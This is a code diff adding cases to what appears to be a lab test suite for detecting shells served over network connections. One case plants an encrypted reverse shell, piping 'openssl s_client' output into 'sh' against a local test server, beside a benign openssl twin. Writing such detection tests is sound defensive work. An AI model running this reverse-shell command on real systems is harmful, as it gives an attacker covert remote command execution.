@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import socket
+import time
 from typing import Any
 
 from tests.lab.case import case
@@ -190,3 +191,34 @@ def _(room: Room) -> Planted:
     """a service's script that a super-server gave the connection to."""
     script = room.write("/usr/local/bin/agent", "#!/bin/sh\nread question\n", 0o755)
     return {"pid": connected(room, "/bin/sh", script)}
+
+
+@case(3, needs=("openssl",), shell_over_a_connection="pid")
+def encrypted_reverse_shell(room: Room) -> Planted:
+    """a shell that reads what openssl brings from elsewhere, through a plain pipe."""
+    remote = (CONTROL_SERVER[0], 4446)
+    server = socket.create_server(remote)
+    room.afterwards(server.close)
+    pid = room.start("sh", "-c", "openssl s_client -quiet -connect {}:{} | exec sh; :".format(*remote))
+    return {"pid": _child_shell(pid)}
+
+
+@encrypted_reverse_shell.twin
+def _(room: Room) -> Planted:
+    """openssl showing a server's certificate to a filter."""
+    remote = (CONTROL_SERVER[0], 4447)
+    server = socket.create_server(remote)
+    room.afterwards(server.close)
+    return {"pid": room.start("sh", "-c", "openssl s_client -connect {}:{} | cat".format(*remote))}
+
+
+def _child_shell(pid: int) -> int:
+    """The child of a shell that is a shell itself."""
+    for _ in range(500):
+        with open(f"/proc/{pid}/task/{pid}/children") as file:
+            for child in file.read().split():
+                with open(f"/proc/{child}/cmdline", "rb") as cmdline:
+                    if cmdline.read().startswith(b"sh\0") and child != str(pid):
+                        return int(child)
+        time.sleep(0.02)
+    raise RuntimeError(f"{pid} has started no shell")
